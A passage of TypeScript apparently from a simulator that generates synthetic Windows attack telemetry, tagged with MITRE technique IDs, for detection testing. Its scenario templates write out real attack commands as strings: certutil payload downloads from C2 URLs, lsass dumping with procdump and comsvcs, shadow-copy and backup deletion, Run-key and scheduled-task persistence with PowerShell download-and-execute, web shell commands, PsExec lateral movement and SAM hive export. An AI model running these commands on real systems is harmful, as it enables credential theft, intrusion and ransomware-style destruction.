      const path = `${dir}\\${renamed ? rng.pick(['vmtoolsd_helper.exe', 'dbgsvc.exe', 'procmon64.exe', 'svchelper.exe']) : 'procdump64.exe'}`;
      a.wait(5000, 40_000);
      a.attack(
        shell,
        { bin: BIN.certutil, cmd: `certutil  -urlcache -split -f ${c2Url(rng, 'exe')} ${path}` },
        'T1105',
        'download procdump',
      );
      a.wait(3000, 40_000);
      const dump = `${dir}\\${rng.pick(['ls', 'lsass', 'mem', rng.chars(5)])}.dmp`;
      const args = rng.chance(0.5)
        ? `-accepteula -ma lsass.exe ${dump}`
        : `-accepteula -r -ma ${boot(ctx).lsass?.pid ?? 700} ${dump}`;
      a.attack(
        shell,
        { bin: renamedBinary(BIN.procdump, path), cmd: `${path} ${args}` },
        renamed ? ['T1003.001', 'T1036.003'] : 'T1003.001',
        renamed ? 'renamed procdump dumps lsass' : 'procdump dumps lsass',
      );
    },
  },
  {
    name: 'discovery_burst',
    techniques: ['T1033', 'T1087.002', 'T1069.002', 'T1482', 'T1016', 'T1082', 'T1057', 'T1018'],
    victim: 'user',
    run: (a, ctx) => {
      const shell = foothold(a, ctx, a.rng.chance(0.6) ? 'cmd' : 'powershell');
      a.wait(3000, 60_000);
      discoveryBurst(a, ctx, shell, 5, 11);
    },
  },
  {
    name: 'shadow_copy_deletion',
    techniques: ['T1490', 'T1204.002', 'T1047', 'T1059.003'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const s = ctx.session as SessionState;
      const dir = stagingDir(rng, profile(ctx));
      const path = `${dir}\\${payloadName(rng, 'exe')}`;
      const payload = a.attack(
        s.explorer as ProcNode,
        {
          ...user(ctx, true),
          bin: droppedBinary(path),
          cmd: `"${path}" ${rng.pick(['', '-path C:\\', '--encrypt-all', '-nolog'])}`.trimEnd(),
          hashSalt: ctx.plan.id,
        },
        'T1204.002',
        'ransomware payload executed',
      );
      const steps: Array<[BinaryDef, string, string, string]> = [
        [
          BIN.vssadmin,
          'vssadmin.exe delete shadows /all /quiet',
          'T1490',
          'delete volume shadow copies',
        ],
        [
          BIN.wmic,
          'wmic.exe shadowcopy delete /nointeractive',
          'T1490',
          'delete shadow copies via WMI',
        ],
        [BIN.bcdedit, 'bcdedit.exe /set {default} recoveryenabled No', 'T1490', 'disable recovery'],
        [
          BIN.bcdedit,
          'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures',
          'T1490',
          'ignore boot failures',
        ],
        [BIN.wbadmin, 'wbadmin.exe delete catalog -quiet', 'T1490', 'delete backup catalog'],
      ];
      a.wait(500, 8000);
      if (rng.chance(0.5)) {
        // One cmd.exe per command, the way most ransomware families do it.
        for (const [bin, cmd, tech, why] of steps) {
          if (bin !== BIN.vssadmin && !rng.chance(0.7)) continue;
          const c = a.attack(
            payload,
            { bin: BIN.cmd, cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${cmd}`, conhost: true },
            'T1059.003',
            `payload shells out: ${why}`,
          );
          a.wait(20, 200);
          a.attack(
            c,
            { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` },
            tech,
            why,
          );
          a.wait(200, 3000);
        }
      } else {
        const chained = steps.filter((st, i) => i === 0 || rng.chance(0.7));
        const c = a.attack(
          payload,
          {
            bin: BIN.cmd,
            cmd: `"C:\\Windows\\System32\\cmd.exe" /c ${chained.map((st) => st[1]).join(' & ')}`,
            conhost: true,
          },
          'T1059.003',
          'payload chains recovery-inhibiting commands',
        );
        for (const [bin, cmd, tech, why] of chained) {
          a.wait(100, 2500);
          a.attack(
            c,
            { bin, cmd: `${cmd.split(' ')[0] as string}  ${cmd.slice(cmd.indexOf(' ') + 1)}` },
            tech,
            why,
          );
        }
      }
    },
  },
  {
    name: 'run_key_persistence',
    techniques: ['T1547.001', 'T1112', 'T1105'],
    victim: 'user',
    run: (a, ctx) => {
      const rng = a.rng;
      const shell = foothold(a, ctx, rng.chance(0.5) ? 'cmd' : 'powershell');
      const appdata = `${profile(ctx)}\\AppData\\Roaming\\${rng.pick(['Microsoft\\Windows\\Templates', 'Adobe', 'Microsoft\\Teams', 'Intel', 'Zoom'])}`;
      const exe = `${appdata}\\${payloadName(rng, 'exe')}`;
      const value = rng.pick([
        'OneDriveSync',
        'AdobeUpdater',
        'SecurityHealthCheck',
        'TeamsMachineInstaller',
        'Intel Graphics',
        rng.chars(8),
      ]);
      a.wait(5000, 60_000);
      a.attack(
        shell,
        { bin: BIN.certutil, cmd: `certutil.exe -urlcache -f ${c2Url(rng, 'exe')} "${exe}"` },
        'T1105',
        'download persistence payload',
      );
      a.wait(2000, 20_000);
      const useMshta = rng.chance(0.3);
      const data = useMshta
        ? `mshta.exe vbscript:Execute(\\"CreateObject(\\"\\"Wscript.Shell\\"\\").Run \\"\\"powershell -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng.chars(5)})\\"\\", 0:close\\")`
        : `\\"${exe}\\" -autorun`;
      a.attack(
        shell,
        {
          bin: BIN.reg,
          cmd: `reg  add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "${value}" /t REG_SZ /d "${data}" /f`,
        },
        ['T1547.001', 'T1112'],
        'Run key persistence',
      );
      const s = ctx.session;
      if (!s) return;
      // The payload comes back at the user's next logon on this host, started by explorer.
      const rng2 = Rng.derive(ctx.plan.seed, 'runkey');
      ctx.sim.logonHooks.push({
        sid: s.account.sid,
        run: (next) => {
          if (!next.explorer) return;
          const b = new Actor(
            ctx.sim,
            rng2,
            next.explorer.start + rng2.int(4000, 20_000),
            ctx.plan.id,
            ctx.plan.template,
          );
          const u = {
            account: next.account,
            session: next.id,
            logon: next.logon,
            integrity: 'Medium' as const,
          };
          if (useMshta) {
            const m = b.attack(
              next.explorer,
              { ...u, bin: BIN.mshta, cmd: data.replace(/\\"/g, '"') },
              ['T1547.001', 'T1218.005'],
              'Run key fires at logon (mshta)',
            );
            b.wait(300, 2000);
            b.child(m, {
              bin: BIN.powershell,
              cmd: `powershell  -w hidden -nop -c iex(irm ${ctx.shared.c2}/${rng2.chars(5)})`,
            });
          } else {
            b.attack(
              next.explorer,
              { ...u, bin: droppedBinary(exe), cmd: `"${exe}" -autorun`, hashSalt: ctx.plan.id },
              'T1547.001',
              'Run key fires at logon',
            );
          }
        },
      });
    },
  },
  {
    name: 'webshell_w3wp',
    techniques: ['T1505.003', 'T1059.003', 'T1033', 'T1105'],
    victim: 'web',
    run: (a, ctx) => {
      const rng = a.rng;
      const pools = [...boot(ctx).named.entries()].filter(([k]) => k.startsWith('w3wp:'));
      if (pools.length === 0) return;
      const w3wp = rng.pick(pools)[1];
      const cmds: Array<[string, string, BinaryDef | null, string]> = [
        ['cmd.exe /c whoami', 'T1033', BIN.whoami, 'whoami '],
        [
          'cmd.exe /c cd /d "C:\\inetpub\\wwwroot"&ipconfig /all',
          'T1016',
          BIN.ipconfig,
          'ipconfig  /all',
        ],
        ['cmd.exe /c net user', 'T1087.001', BIN.net, 'net  user'],
        ['cmd.exe /c tasklist', 'T1057', BIN.tasklist, 'tasklist '],
        [
          `cmd.exe /c certutil -urlcache -split -f ${c2Url(rng, 'aspx')} C:\\inetpub\\wwwroot\\aspnet_client\\${rng.chars(6)}.aspx`,
          'T1105',
          BIN.certutil,
          '',
        ],
        [
          `cmd.exe /c ${encodedStager(a, ctx).cmd.replace(/^"[^"]+"/, 'powershell.exe')}`,
          'T1059.001',
          BIN.powershell,
          '',
        ],
      ];
      const n = rng.int(3, cmds.length);
      for (let i = 0; i < n; i++) {
        const [cmd, tech, bin, childCmd] = cmds[i] as [string, string, BinaryDef | null, string];
        const c = a.attack(
          w3wp,
          { bin: BIN.cmd, cmd, conhost: true, cwd: 'C:\\Windows\\system32\\inetsrv\\' },
          ['T1505.003', 'T1059.003'],
          'web shell runs command',
        );
        if (bin) {
          a.wait(10, 80);
          a.attack(
            c,
            { bin, cmd: childCmd || cmd.slice('cmd.exe /c '.length) },
            tech,
            `web shell: ${cmd.slice(11, 60)}`,
          );
        }
        a.wait(20_000, 300_000);
      }
    },
  },
  {
    name: 'intrusion_to_dc',
    techniques: [
      'T1566.001',
      'T1059.001',
      'T1027',
      'T1087.002',
      'T1053.005',
      'T1021.002',
      'T1569.002',
      'T1003.001',
      'T1218.011',
    ],
    victim: 'user',
    lateral: 'dc',
    remoteDelayMin: [25, 90],
    run: (a, ctx) => {
      const rng = a.rng;
      const doc = officeLure(a, ctx);
      a.wait(2000, 12_000);
      const { cmd } = encodedStager(a, ctx);
      const ps = a.attack(
        doc,
        { bin: BIN.powershell, cmd },
        ['T1059.001', 'T1027'],
        'macro launches encoded PowerShell',
      );
      discoveryBurst(a, ctx, ps, 3, 6);
      const high = uacBypass(a, ctx, ps);
      a.wait(30_000, 300_000);
      const action = cmd.replace(/^"[^"]+"/, 'powershell.exe').replace(/"/g, '\\"');
      a.attack(
        high,
        {
          bin: BIN.schtasks,
          cmd: `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${ctx.shared.taskName}" /tr "${action}" /sc onlogon /ru SYSTEM /f`,
        },
        'T1053.005',
        'persistence via logon task',
      );
      a.t = Math.max(a.t + 1000, (ctx.plan.remoteAt as number) - rng.int(1000, 3000));
      const tool = ctx.shared.tool;
      const bin = tool === BIN.psexec.path ? BIN.psexec : renamedBinary(BIN.psexec, tool);
      a.attack(
        high,
        {
          bin,
          cmd: `${tool} \\\\${(ctx.target as HostInfo).short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}`,
        },
        ['T1021.002', 'T1569.002'],
        'PsExec to domain controller',
      );
    },
    remote: (a, ctx) => {
      const rng = a.rng;
      const svc = a.attack(
        serviceParent(ctx),
        {
          bin: BIN.psexesvc,
          cmd: 'C:\\Windows\\PSEXESVC.exe',
          account: SYSTEM,
          integrity: 'System',
        },
        ['T1569.002', 'T1570'],
        'PsExec service on DC',
      );
      a.wait(100, 800);
      const c = a.attack(
        svc,
        {
          bin: BIN.cmd,
          cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'),
          conhost: true,
        },
        'T1059.003',
        'remote shell on DC',
      );
      runRemoteChildren(a, ctx, c);
      a.wait(2000, 30_000);
      a.attack(
        c,
        { bin: BIN.tasklist, cmd: 'tasklist  /fi "imagename eq lsass.exe"' },
        'T1057',
        'find lsass PID on DC',
      );
      a.wait(2000, 20_000);
      a.attack(
        c,
        {
          bin: BIN.rundll32,
          cmd: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${boot(ctx).lsass?.pid ?? 700} ${ctx.shared.dumpPath} full`,
        },
        ['T1003.001', 'T1218.011'],
        'dump lsass on DC with comsvcs',
      );
      if (rng.chance(0.5)) {
        a.wait(2000, 20_000);
        a.attack(
          c,
          { bin: BIN.vssadmin, cmd: 'vssadmin  create shadow /for=C:' },
          'T1003.003',
          'shadow copy to reach ntds.dit',
        );
      }
    },
  },
];

export const TEMPLATE_NAMES = TEMPLATES.map((t) => t.name);

function makeShared(seed: string): Shared {
  const rng = Rng.derive(seed, 'shared');
  const variant = rng.int(0, 2);
  const tool = rng.chance(0.6)
    ? BIN.psexec.path
    : `${rng.pick(['C:\\Users\\Public', 'C:\\ProgramData', 'C:\\Windows\\Temp'])}\\${rng.pick(['PsExec64.exe', 'ps.exe', 'psx.exe', 'svcmgr.exe'])}`;
  const [remoteCmd, remoteChildren] = rng.pick<[string, Array<[BinaryDef, string]>]>([
    [
      'cmd.exe /c "whoami & hostname & ipconfig /all"',
      [
        [BIN.whoami, 'whoami  '],
        [BIN.hostname, 'hostname  '],
        [BIN.ipconfig, 'ipconfig  /all'],
      ],
    ],
    [
      `cmd.exe /c "net group \\"Domain Admins\\" /domain"`,
      [[BIN.net, 'net  group "Domain Admins" /domain']],
    ],
    [
      'cmd.exe /c "reg save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y"',
      [[BIN.reg, 'reg  save HKLM\\SAM C:\\Windows\\Temp\\s.tmp /y']],
    ],
    [
      `cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${1_700_000_000 + rng.int(0, 99_999_999)}.${rng.int(1000000, 9999999)} 2>&1`,
      [],
    ],
  ]);
  return {
    c2: c2Url(rng, 'x').replace(/\/[^/]*$/, ''),
    tool,
    remoteCmd,
    remoteChildren,
    taskName: rng.pick([
      '\\Microsoft\\Windows\\UpdateOrchestrator\\UpdateAssistantCheck',
      'GoogleUpdateTaskMachineUA',
      'MicrosoftEdgeUpdateTaskMachineCore1d',
      'OneDrive Reporting Task',
      'Adobe Acrobat Update Task',
      `SystemHealth_${rng.chars(6)}`,
    ]),
    dumpPath: `C:\\Windows\\Temp\\${rng.pick(['dbg', 'debug', 'wer', rng.chars(5)])}.${rng.pick(['dmp', 'tmp', 'bin'])}`,
    variant,
  };
}

function randomSessionTime(
  env: Environment,
  host: HostInfo,
  rng: Rng,
  day: number,
): number | undefined {
  const plan = dayPlan(env, host, day);
  const sessions = plan.sessions.filter((s) => s.logoff - s.logon > 40 * MIN_MS);
  if (sessions.length === 0) return undefined;
  const s = rng.pick(sessions);
  const lo = s.logon + 15 * MIN_MS;
  const hi = Math.max(
    lo + MIN_MS,
    s.logoff - (s.logoff - s.logon > 4 * HOUR_MS ? 2 * HOUR_MS : 20 * MIN_MS),
  );
  return Math.round(rng.float(lo, hi));
}

/**
 * Choose K attack instances: templates in shuffled round-robin (so K >= template count uses
 * every template), victims at random hosts, times inside real user sessions.
 */
export function planAttacks(env: Environment, count: number): AttackPlan[] {
  const rng = Rng.derive(env.seed, 'attack-plan');
  const workstations = env.hosts.filter((h) => h.role === 'workstation' && h.owner);
  const servers = env.hosts.filter((h) => h.role === 'server');
  const dcs = env.hosts.filter((h) => h.role === 'dc');
  const webs = servers.filter((h) => h.serverKind === 'web');
  const usable = TEMPLATES.filter((t) => {
    if (t.victim === 'user' && workstations.length === 0) return false;
    if (t.victim === 'web' && webs.length === 0) return false;
    if (t.lateral === 'dc' && dcs.length === 0) return false;
    if (t.lateral === 'server' && servers.length + dcs.length === 0) return false;
    return true;
  });
  type Placement = Omit<AttackPlan, 'id' | 'seed' | 'template' | 'techniques'>;
  const place = (tpl: Template): Placement | undefined => {
    let victim: HostInfo | undefined;
    let start: number | undefined;
    for (let attempt = 0; attempt < 200 && start === undefined; attempt++) {
      const day = rng.int(0, env.days - 1);
      if (tpl.victim === 'user') {
        victim = rng.pick(workstations);
        start = randomSessionTime(env, victim, rng, day);
      } else {
        victim = rng.pick(tpl.victim === 'web' ? webs : servers);
        start = env.startMs + day * DAY_MS + Math.round(rng.float(8, 21) * HOUR_MS);
      }
    }
    if (!victim || start === undefined) return undefined;
    if (!tpl.lateral) return { victim: victim.index, start };
    const v = victim.index;
    const pool = (tpl.lateral === 'dc' ? dcs : [...servers, ...dcs]).filter((h) => h.index !== v);
    if (pool.length === 0) return undefined;
    const [lo, hi] = tpl.remoteDelayMin ?? [5, 30];
    return {
      victim: v,
      target: rng.pick(pool).index,
      start,
      remoteAt: start + Math.round(rng.float(lo, hi) * MIN_MS),
    };
  };
  const plans: AttackPlan[] = [];
  if (usable.length === 0 || count <= 0) return plans;
  let order: Template[] = [];
  for (let i = 0; i < count; i++) {
    if (order.length === 0) order = rng.shuffle(usable);
    const first = order.pop() as Template;
    // A template that cannot be placed (e.g. no user logs on in a weekend-only window) hands
    // its slot to the next one that can, so K attacks are injected whenever any fits.
    const candidates = [first, ...rng.shuffle(usable.filter((t) => t !== first))];
    for (const tpl of candidates) {
      const placed = place(tpl);
      if (!placed) continue;
      const id = `atk-${String(plans.length + 1).padStart(4, '0')}-${tpl.name}`;
      plans.push({
        id,
        template: tpl.name,
        techniques: tpl.techniques,
        seed: `${env.seed}|${id}`,
        ...placed,
      });
      break;
    }
  }
  return plans;
}

function templateOf(name: string): Template {
  const t = TEMPLATES.find((x) => x.name === name);
  if (!t) throw new Error(`unknown scenario template ${name}`);
  return t;
}

/** Timeline parts per host and day, for the lifecycle to put on each host's agenda. */
export function attackParts(
  env: Environment,
  plans: AttackPlan[],
): Map<number, Map<number, TimelinePart[]>> {
  const out = new Map<number, Map<number, TimelinePart[]>>();
  const add = (host: number, t: number, run: (sim: HostSim) => void): void => {
    const day = Math.floor((t - env.startMs) / DAY_MS);
    let byDay = out.get(host);
    if (!byDay) out.set(host, (byDay = new Map()));
    let list = byDay.get(day);
    if (!list) byDay.set(day, (list = []));
    list.push({ t, run });
  };
  for (const plan of plans) {
    const tpl = templateOf(plan.template);
    const host = env.hosts[plan.victim] as HostInfo;
    const target = plan.target !== undefined ? env.hosts[plan.target] : undefined;
    add(plan.victim, plan.start, (sim) => {
      const session = sim.sessionAt(plan.start);
      if (tpl.victim === 'user' && !session) return;
      const actor = new Actor(
        sim,
        Rng.derive(plan.seed, 'source'),
        plan.start,
        plan.id,
        plan.template,
      );
      sim.activity = plan.template;
      tpl.run(actor, { plan, env, sim, host, target, session, shared: makeShared(plan.seed) });
    });
    if (tpl.remote && target && plan.remoteAt !== undefined) {
      const remote = tpl.remote;
      add(target.index, plan.remoteAt, (sim) => {
        const actor = new Actor(
          sim,
          Rng.derive(plan.seed, 'remote'),
          plan.remoteAt as number,
          plan.id,
          plan.template,
        );
        sim.activity = plan.template;
        remote(actor, {
          plan,
          env,
          sim,
          host: target,
          target,
          session: undefined,
          shared: makeShared(plan.seed),
        });
      });
    }
  }
  return out;
}
